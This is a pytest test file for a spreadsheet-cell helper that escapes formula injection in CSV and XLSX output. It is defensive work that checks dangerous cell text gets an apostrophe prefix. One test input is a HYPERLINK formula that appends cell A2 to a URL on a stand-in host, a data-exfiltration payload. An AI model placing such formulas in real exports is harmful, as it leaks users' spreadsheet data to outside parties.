"""The one helper every CSV and XLSX writer uses for its cells."""

import datetime
from decimal import Decimal

import pytest

from tremplin.spreadsheets import csv_row, neutralise, xlsx_row


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("https://x.example/?"&A2;"Voir")',
        "+33 6 12 34 56 78",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "-",
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-0.36125", "+12", "-3,5", "-1e-3", "Scierie du Port", "", " =1", "12=3"])
def test_plain_numbers_and_ordinary_text_are_left_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-3, -0.5, Decimal("-150.00"), datetime.date(2025, 3, 1), None, True])
def test_values_that_are_not_text_are_left_alone(value):
    assert neutralise(value) is value


def test_a_csv_row_has_empty_cells_for_none():
    assert csv_row(["=1", None, -2.5]) == ["'=1", "", -2.5]


def test_an_xlsx_row_replaces_the_control_characters_xlsx_cannot_hold():
    assert xlsx_row(["a\x00b", "=\x07", 4]) == ["a\ufffdb", "'=\ufffd", 4]
